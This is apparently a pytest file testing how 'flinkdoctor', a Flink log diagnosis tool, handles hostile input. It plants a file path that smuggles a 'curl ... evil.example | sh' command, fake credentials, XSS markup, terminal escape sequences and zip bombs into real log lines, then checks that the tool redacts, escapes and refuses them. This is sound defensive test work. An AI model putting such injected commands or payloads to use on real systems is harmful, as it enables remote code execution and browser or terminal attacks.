"""Hostile input (issue #8): nothing deleted that is not ours, nothing injected into a shell or a terminal, no secret
in any output, every failure its own exit code, every readable line counted.

Planted values (an evil HDFS path, secrets, escape sequences) ride on real log lines of the seeds and the fault
lab: the attack is the value, the line around it is what Flink printed.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import DATA

SEED3 = DATA / "seeds" / "003"
EXE = [sys.executable, "-m", "flinkdoctor"]
EVIL_PATH = "/data/out/part-0;curl${IFS}-s${IFS}http://evil.example/x|sh;#.in-progress"
CONFIG_LINE = (
    "2026-11-22 11:08:47,766 INFO  org.apache.flink.configuration.GlobalConfiguration           [] - "
    "Loading configuration property: {key}, {value}"
)  # real 1.20.3 line; older Flink prints raw values
SECRETS = {
    "config-dump": ("s3.secret-key", "AKIAIOSFODNN7SECRET1"),
    "config-dump-token": ("security.delegation.token.provider.x.token", "tok-9f8e7d6c5b4a"),
    "jaas": (
        "properties.sasl.jaas.config",
        'org.apache.kafka.common.security.plain.PlainLoginModule required username="svc" password="Jaas-Pw-77";',
    ),
}
URL_SECRETS = [
    "jdbc:postgresql://admin:S3cret-Pg-55@db.internal:5432/orders",
    "https://deploy:ghp_Token0123456789abcdef@git.example.com/repo.git",
]
HEADER_SECRET = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXBheWxvYWQ.sig-Zz99"
PRIVATE_KEY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7-private-body"
SECRET_VALUES = [
    "AKIAIOSFODNN7SECRET1",
    "tok-9f8e7d6c5b4a",
    "Jaas-Pw-77",
    "S3cret-Pg-55",
    "ghp_Token0123456789abcdef",
    "c2VjcmV0LXBheWxvYWQ",
    PRIVATE_KEY,
]
MARKUP = " <script>alert(1)</script><img src=x onerror=alert(2)> | [click](http://evil.example) `x` **b**"
ESCAPES = "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"


def run_cli(*args, env=None, cwd=None):
    env = {**os.environ, "SPARK_LOCAL_IP": "127.0.0.1", **(env or {})}
    return subprocess.run(
        [*EXE, *args], capture_output=True, text=True, env=env, timeout=600, cwd=cwd, stdin=subprocess.DEVNULL
    )


def true_lines(data: bytes) -> int:
    return data.count(b"\n") + (1 if data and not data.endswith(b"\n") else 0)


def hostile_bundle(root: Path) -> dict[str, bytes]:
    """Seed 003 (a host stall whose fix is `hdfs debug recoverLease -path FILE`) with every kind of hostile input
    planted; returns what each readable file holds, to count its lines."""
    root.mkdir()
    files: dict[str, bytes] = {}
    jstack = (SEED3 / "jstack-taskmanager.txt").read_text()
    files["jstack-taskmanager.txt"] = jstack.replace(
        "/data/BaseData/flinksql/TCFlyIntB2BTrade_flight_segment_info/2019/04/23/tmp-part-0-6.in-progress", EVIL_PATH
    ).encode()
    jobmanager = (SEED3 / "jobmanager.log").read_bytes()
    first = jobmanager.split(b"\n", 1)[0].decode()  # a real header; its message carries the planted text
    planted = [CONFIG_LINE.format(key=k, value=v) for k, v in SECRETS.values()]
    planted += [first + " " + url for url in URL_SECRETS]
    planted += [first + " request header " + HEADER_SECRET]
    planted += [first + " key material", "-----BEGIN PRIVATE KEY-----", PRIVATE_KEY, "-----END PRIVATE KEY-----"]
    files["jobmanager.log"] = jobmanager + ("\n".join(planted) + "\n").encode()
    # the root cause's own evidence line (the soft lockup) carries escape sequences
    messages = (SEED3 / "messages").read_text().splitlines(keepends=True)
    lockup = next(i for i, line in enumerate(messages) if "soft lockup" in line)
    messages[lockup] = messages[lockup].rstrip("\n") + " " + ESCAPES + MARKUP + "\n"
    files["messages"] = "".join(messages).encode()
    files["taskmanager.log"] = (SEED3 / "taskmanager.log").read_bytes()
    # names a terminal view would once have rendered as a hyperlink, or crashed on
    files["[link=http:/evil.example]click[/link].log"] = (SEED3 / "taskmanager.log").read_bytes()[:2000]
    files["x[/red]y.log"] = (DATA / "seeds" / "004" / "taskmanager.log").read_bytes()[:1500]
    files["empty.log"] = b""
    for name, data in files.items():  # a name with '/' is folders whose path reads as markup
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.log", b"\0" * (256 << 20))
    (root / "bomb.zip").write_bytes(bomb.getvalue())
    return files


@pytest.fixture(scope="module")
def hostile(spark, rules, tmp_path_factory):
    """One diagnose over the whole hostile bundle, the work dir kept so that it can be searched too."""
    from rich.console import Console

    from flinkdoctor.pipeline import diagnose
    from flinkdoctor.views import render_html, render_json, render_markdown, render_terminal

    base = tmp_path_factory.mktemp("hostile")
    files = hostile_bundle(base / "bundle")
    report = diagnose([base / "bundle"], spark=spark, rules=rules, work_dir=base / "work", keep_work_dir=True)
    views = {"json": render_json(report), "html": render_html(report), "markdown": render_markdown(report)}
    for name, options in (("plain", {"no_color": True}), ("colour", {"force_terminal": True})):
        out = io.StringIO()
        render_terminal(report, Console(file=out, width=100, **options))
        views[name] = out.getvalue()
    return {"files": files, "report": report.to_dict(), "views": views, "work": base / "work"}


def test_every_readable_line_is_counted_and_the_bomb_skipped(hostile):
    data = hostile["report"]["input"]
    by_path = {s["path"]: s for s in data["sources"]}
    for name, content in hostile["files"].items():
        assert by_path[name]["lines"] == true_lines(content), name
    assert data["lines"] == sum(true_lines(c) for c in hostile["files"].values())
    assert [s["path"] for s in hostile["report"]["skipped"]] == ["bomb.zip"]
    assert "times its size" in hostile["report"]["skipped"][0]["reason"]


def test_the_diagnosis_survives_the_hostile_input(hostile):
    assert hostile["report"]["root_causes"][0]["rule"] == "kernel-soft-lockup"


def test_no_command_is_built_from_an_unsafe_path(hostile):
    fixes = [fix for root in hostile["report"]["root_causes"] for fix in root["fix"]]
    assert not any("curl" in fix.get("command", "") or ";" in fix.get("command", "") for fix in fixes)
    assert any("not safe in a shell" in fix["text"] for fix in fixes)
    assert EVIL_PATH not in hostile["views"]["plain"].split("$ ", 1)[-1].split("\n", 1)[0]


def test_a_plausible_path_is_quoted_into_the_command(diagnose_bundle):
    fixes = [fix for root in diagnose_bundle(SEED3)["root_causes"] for fix in root["fix"]]
    commands = [fix["command"] for fix in fixes if "command" in fix]
    assert (
        "hdfs debug recoverLease -path /data/BaseData/flinksql/TCFlyIntB2BTrade_flight_segment_info/2019/04/23/"
        "tmp-part-0-6.in-progress -retries 3" in commands
    )


def test_no_secret_in_any_view_or_in_the_kept_work_dir(hostile):
    import pyarrow.parquet as pq

    for name, text in hostile["views"].items():
        for secret in SECRET_VALUES:
            assert secret not in text, (name, secret)
    work = hostile["work"]
    assert not (work / "sources").exists() and not (work / "unpacked").exists()  # raw copies never outlive the run
    kept = [p for p in work.rglob("*") if p.is_file()]
    assert kept, "the kept work dir holds the events table"
    for path in kept:
        raw = path.read_bytes()
        assert not any(secret.encode() in raw for secret in SECRET_VALUES), path
        if path.suffix == ".parquet":
            table = pq.read_table(path, columns=["text", "message"]).to_pydict()
            cells = [c for column in table.values() for c in column if c]
            assert not any(secret in cell for cell in cells for secret in SECRET_VALUES), path


def test_terminal_view_shows_input_inert(hostile):
    plain, colour = hostile["views"]["plain"], hostile["views"]["colour"]
    assert "\x1b" not in plain
    assert "\x1b]8;" not in colour and "\x1b[2J" not in colour  # no hyperlink, no screen clear from the input
    assert "\\x1b[2J" in plain  # shown, made visible
    assert "[link=http:/evil.example]click[/link].log" in plain.replace("\n", "").replace(" ", "").replace("│", "")


def test_json_view_is_exact_and_valid(hostile):
    raw = hostile["views"]["json"]
    report = json.loads(raw)
    texts = [ev["text"] for root in report["root_causes"] for ev in root["evidence"]]
    assert any(ESCAPES in text for text in texts)  # the planted sequences, exact once parsed
    assert not any(ch in raw for ch in "\x1b\x07\x9b\u202e")  # and never raw in what reaches a terminal


def test_html_view_keeps_planted_markup_as_text(hostile):
    html = hostile["views"]["html"]
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in html
    assert "\x1b" not in html and "[link=http:/evil.example]click[/link].log" in html


def test_markdown_view_keeps_planted_markup_as_text(hostile):
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable("table").render(hostile["views"]["markdown"])
    assert "<script>" not in rendered and "<img" not in rendered and 'href="http://evil' not in rendered
    assert "\x1b" not in hostile["views"]["markdown"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered  # shown, as text


# -- the work dir ------------------------------------------------------------------------------------------------


def test_a_work_dir_with_the_users_files_is_refused_and_left_alone(tmp_path):
    work = tmp_path / "work"
    mine = {"sources/x.txt": b"mine", "unpacked/y.txt": b"mine too", "events.parquet/z.txt": b"and this"}
    for name, data in mine.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_bytes(data)
    result = run_cli("diagnose", str(SEED3), "--work-dir", str(work))
    assert result.returncode == 2, result.stderr
    assert "not a flinkdoctor work dir" in result.stderr and "Traceback" not in result.stderr
    for name, data in mine.items():
        assert (work / name).read_bytes() == data


def test_default_work_dir_is_removed_and_keep_says_where(spark, rules, tmp_path, monkeypatch):
    from flinkdoctor.pipeline import diagnose

    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    diagnose([DATA / "seeds" / "004"], spark=spark, rules=rules)
    assert not list(tmp_path.glob("flinkdoctor-*"))
    report = diagnose([DATA / "seeds" / "004"], spark=spark, rules=rules, keep_work_dir=True).to_dict()
    kept = Path(report["work_dir"])
    assert kept.parent == tmp_path and kept.is_dir() and (kept / ".flinkdoctor-work-dir").exists()


def test_an_adopted_empty_work_dir_is_emptied_but_kept(spark, rules, tmp_path):
    from flinkdoctor.pipeline import diagnose

    work = tmp_path / "empty"
    work.mkdir()
    diagnose([DATA / "seeds" / "004"], spark=spark, rules=rules, work_dir=work)
    assert work.is_dir() and not list(work.iterdir())


# -- exit codes: options and unreadable input, before Spark starts ------------------------------------------------


@pytest.mark.parametrize(
    "args, code, words",
    [
        (["--timezone", "Not/AZone"], 2, "unknown time zone"),
        (["--flink-version", "banana"], 2, "not a Flink version"),
        (["--year", "12"], 2, "plausible year"),
        (["--fail-on", "no-such-category"], 2, "unknown category"),
    ],
)
def test_bad_options_are_usage_errors_before_spark(args, code, words):
    result = run_cli("diagnose", str(SEED3), *args)
    assert result.returncode == code, result.stderr
    assert words in result.stderr and "Traceback" not in result.stderr and "Spark" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_read_only_work_dir_is_a_clear_error(tmp_path):
    if os.geteuid() == 0:
        work = Path("/proc/flinkdoctor-work")  # not writable even for root
    else:
        work = tmp_path / "ro"
        work.mkdir(mode=0o500)
    result = run_cli("diagnose", str(SEED3), "--work-dir", str(work))
    assert result.returncode == 2, result.stderr
    assert "work dir" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("make", ["empty-folder", "only-binary", "only-bomb", "broken-link"])
def test_nothing_to_read_exits_3_without_spark(tmp_path, make):
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    if make == "only-binary":
        (bundle / "core.bin").write_bytes(bytes(range(256)) * 40)
    elif make == "only-bomb":
        with zipfile.ZipFile(bundle / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("zeros.log", b"\0" * (128 << 20))
    elif make == "broken-link":
        (bundle / "gone.log").symlink_to(tmp_path / "nowhere.log")
    result = run_cli("diagnose", str(bundle))
    assert result.returncode == 3, result.stderr
    assert "nothing to read" in result.stderr and "Traceback" not in result.stderr
    assert "Spark" not in result.stderr
    assert not list(tmp_path.glob("**/zeros.log"))


@pytest.mark.spark  # starts Spark in a subprocess
def test_an_internal_error_exits_4_with_its_traceback_in_a_log(tmp_path):
    """A crash (here: an events table that Spark cannot write) must never look like a finding (exit 1)."""
    env = {"FLINKDOCTOR_LOG_DIR": str(tmp_path), "FLINKDOCTOR_SPARK_CONF": "spark.sql.parquet.compression.codec=nope"}
    result = run_cli("diagnose", str(DATA / "seeds" / "004"), "--fail-on", "any", env=env)
    assert result.returncode == 4, result.stderr[-2000:]
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("flinkdoctor: internal error") and "Traceback" not in result.stderr
    log = Path(re.search(r"the traceback is in (\S+)", last).group(1))
    assert log.parent == tmp_path and "Traceback" in log.read_text()


# -- archives ------------------------------------------------------------------------------------------------


def test_a_gzip_bomb_among_logs_is_skipped_and_leaves_nothing(diagnose_bundle, tmp_path):
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "taskmanager.log").write_bytes((DATA / "seeds" / "004" / "taskmanager.log").read_bytes())
    import tarfile

    with tarfile.open(bundle / "logs.tar.gz", "w:gz") as archive:
        info = tarfile.TarInfo("zeros.log")
        info.size = 256 << 20
        archive.addfile(info, io.BytesIO(b"\0" * info.size))
    report = diagnose_bundle(bundle)
    assert report["root_causes"][0]["category"] == "zookeeper-connectivity"
    assert [s["path"] for s in report["skipped"]] == ["logs.tar.gz"]


def test_an_archive_over_the_free_disk_is_refused(tmp_path, monkeypatch):
    import shutil as shutil_module

    from flinkdoctor.errors import InputError
    from flinkdoctor.sources.ingest import ingest

    archive = tmp_path / "logs.tar.gz"
    import tarfile

    data = (DATA / "seeds" / "004" / "taskmanager.log").read_bytes()
    with tarfile.open(archive, "w:gz") as handle:
        info = tarfile.TarInfo("taskmanager.log")
        info.size = len(data)
        handle.addfile(info, io.BytesIO(data))
    real = shutil_module.disk_usage
    monkeypatch.setattr(shutil_module, "disk_usage", lambda p: real(p)._replace(free=1 << 20))
    with pytest.raises(InputError, match="bytes free"):
        ingest([archive], tmp_path / "work")
    assert not list((tmp_path / "work" / "unpacked").rglob("*.log"))


def test_gzip_of_a_real_log_is_read(diagnose_bundle, tmp_path):
    target = tmp_path / "jobmanager.log.gz"
    target.write_bytes(gzip.compress((DATA / "seeds" / "004" / "taskmanager.log").read_bytes()))
    report = diagnose_bundle(target)
    assert report["input"]["lines"] == true_lines((DATA / "seeds" / "004" / "taskmanager.log").read_bytes())


# -- the package as spark-submit runs it ----------------------------------------------------------------------------


@pytest.mark.spark  # starts Spark in a subprocess
def test_spark_submit_runs_the_documented_recipe(tmp_path):
    import pyspark

    import flinkdoctor

    assert flinkdoctor.__file__ and flinkdoctor.__version__
    submit = Path(pyspark.__file__).parent / "bin" / "spark-submit"
    main = Path(flinkdoctor.__file__).parent / "__main__.py"
    env = {
        **os.environ,
        "SPARK_LOCAL_IP": "127.0.0.1",
        "PYSPARK_PYTHON": sys.executable,
        "PYSPARK_DRIVER_PYTHON": sys.executable,
    }
    result = subprocess.run(
        [str(submit), "--master", "local[1]", str(main), "diagnose", str(SEED3), "--format", "json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    report = json.loads(result.stdout)
    assert report["root_causes"][0]["rule"] == "kernel-soft-lockup"
